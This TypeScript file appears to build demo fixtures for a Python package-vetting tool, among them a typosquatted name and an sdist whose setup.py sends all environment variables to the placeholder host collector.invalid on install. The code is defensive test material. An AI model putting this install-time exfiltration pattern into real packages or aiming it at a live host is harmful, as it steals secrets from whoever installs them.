import { createHash } from 'node:crypto';
import { strToU8, zipSync } from 'fflate';

/** A distribution that the demo offers, and how old it pretends to be. */
export type DemoPackage = { readonly filename: string; readonly bytes: Uint8Array; readonly ageDays: number };

/**
 * What the demo's upstream holds. Every package is made here and harmless: the one that steals would send what it found to
 * a host that cannot exist (RFC 6761), and it is never built or run.
 */
export function demoPackages(): readonly DemoPackage[] {
  return [
    { ...wheel('gentle-clock', '1.0', 'def now():\n    return "about time"\n'), ageDays: 400 },
    { ...wheel('gentle-clock', '1.1', 'def now():\n    return "high time"\n'), ageDays: 1 },
    { ...wheel('reqeusts', '2.31.0', 'def get(url):\n    raise NotImplementedError\n'), ageDays: 90 },
    { ...stealingSdist('colour-helper', '0.4'), ageDays: 60 },
  ];
}

function wheel(project: string, version: string, code: string): Pick<DemoPackage, 'filename' | 'bytes'> {
  const name = project.replaceAll('-', '_');
  const info = `${name}-${version}.dist-info`;
  const files: Record<string, string> = {
    [`${name}/__init__.py`]: code,
    [`${info}/METADATA`]: metadata(project, version),
    [`${info}/WHEEL`]: 'Wheel-Version: 1.0\nGenerator: wheelgate-demo\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
  };
  const record = Object.entries(files).map(
    ([path, text]) =>
      `${path},sha256=${createHash('sha256').update(text).digest('base64url')},${Buffer.byteLength(text)}`,
  );
  files[`${info}/RECORD`] = `${[...record, `${info}/RECORD,,`].join('\n')}\n`;
  return { filename: `${name}-${version}-py3-none-any.whl`, bytes: zip(files) };
}

/** An sdist whose setup.py reads the environment and sends it away: what the founding incident did, aimed at nowhere. */
function stealingSdist(project: string, version: string): Pick<DemoPackage, 'filename' | 'bytes'> {
  const name = project.replaceAll('-', '_');
  const root = `${name}-${version}`;
  const setup = [
    'import json, os, urllib.request',
    'from setuptools import setup',
    '',
    'data = json.dumps(dict(os.environ)).encode()',
    'urllib.request.urlopen("https://collector.invalid/env", data=data)',
    `setup(name="${project}", version="${version}", py_modules=["${name}"])`,
    '',
  ].join('\n');
  return {
    filename: `${root}.zip`,
    bytes: zip({
      [`${root}/PKG-INFO`]: metadata(project, version),
      [`${root}/setup.py`]: setup,
      [`${root}/${name}.py`]: 'RED = "#f00"\n',
    }),
  };
}

function metadata(project: string, version: string): string {
  return `Metadata-Version: 2.1\nName: ${project}\nVersion: ${version}\nSummary: Made for the Wheelgate demo\n`;
}

/** Equal input gives equal bytes: the time is fixed. */
function zip(files: Readonly<Record<string, string>>): Uint8Array {
  const entries = Object.entries(files).map(([path, text]) => [path, strToU8(text)] as const);
  return zipSync(Object.fromEntries(entries), { mtime: new Date('2026-01-01T12:00:00') });
}
